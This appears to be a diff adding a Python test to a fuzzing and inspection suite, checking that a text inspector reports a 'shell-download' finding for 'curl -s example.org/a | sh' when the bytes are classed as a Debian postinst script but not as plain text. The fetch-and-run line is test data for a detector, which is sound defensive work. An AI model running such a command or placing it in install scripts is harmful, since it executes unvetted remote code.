@@ -12,6 +12,7 @@ import lockgate
 from corpora.kills import answer, forked
 from fuzzing import engine, run
 from fuzzing.guard import EscapeError, Guard
+from fuzzing.inspectors import inspecting, places
 from fuzzing.registry import EXEMPT, parsers, parsers_in
 from fuzzing.target import Target, found
 from fuzzing.targets import targets
@@ -186,3 +187,15 @@ def test_a_run_without_failure_is_told_by_its_numbers() -> None:
 
 def test_an_engine_that_dies_without_a_word_is_a_failure() -> None:
     assert run.told("a", "atheris", -11, "", []).failures == ("status -11",)
+
+
+def test_the_first_byte_says_where_a_text_stands() -> None:
+    known = places("texts:TextInspector")
+    assert {("postinst", "apt", "deb-script")} < set(known)
+    assert {name.rpartition(".")[2] for name, _, _ in known} > {"sh", "yaml", "js", "txt", "csv"}
+    run = inspecting("texts:TextInspector")
+    command = b"curl -s example.org/a | sh\n"
+    script, plain = known.index(("postinst", "apt", "deb-script")), known.index(("a.txt", "file", ""))
+    codes = {at: {found.code for found in run(bytes([at]) + command).findings} for at in (script, plain)}
+    assert "shell-download" in codes[script]
+    assert "shell-download" not in codes[plain]
